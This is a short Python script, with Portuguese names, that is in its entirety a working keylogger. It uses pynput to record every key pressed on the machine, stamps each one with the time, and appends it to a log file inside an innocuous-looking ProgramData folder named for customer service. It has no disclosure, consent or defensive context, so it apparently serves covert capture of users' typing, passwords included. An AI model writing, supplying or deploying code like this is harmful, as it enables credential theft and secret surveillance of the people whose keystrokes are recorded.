from pynput import keyboard
from datetime import datetime

ARQ = open(r"C:\ProgramData\atendimento\digitacao.log", "a", encoding="utf-8", buffering=1)

def ao_pressionar(tecla):
    try:
        valor = tecla.char
    except AttributeError:
        valor = "[" + str(tecla).replace("Key.", "") + "]"
    ARQ.write(datetime.now().strftime("%H:%M:%S ") + str(valor) + "\n")

with keyboard.Listener(on_press=ao_pressionar) as ouvinte:
    ouvinte.join()
